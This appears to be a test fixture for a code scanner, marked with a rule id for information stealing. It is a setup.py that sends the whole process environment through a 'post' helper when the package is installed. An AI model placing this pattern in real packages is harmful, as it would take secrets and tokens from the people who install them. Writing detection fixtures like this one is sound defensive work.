import os

from setuptools import setup

from helpers.report import post

# The environment is collected here and sent by a helper of another module.
# ruleid: code/info-stealing
post(dict(os.environ))

setup(name="fixture-env-helper", version="1.0.0")
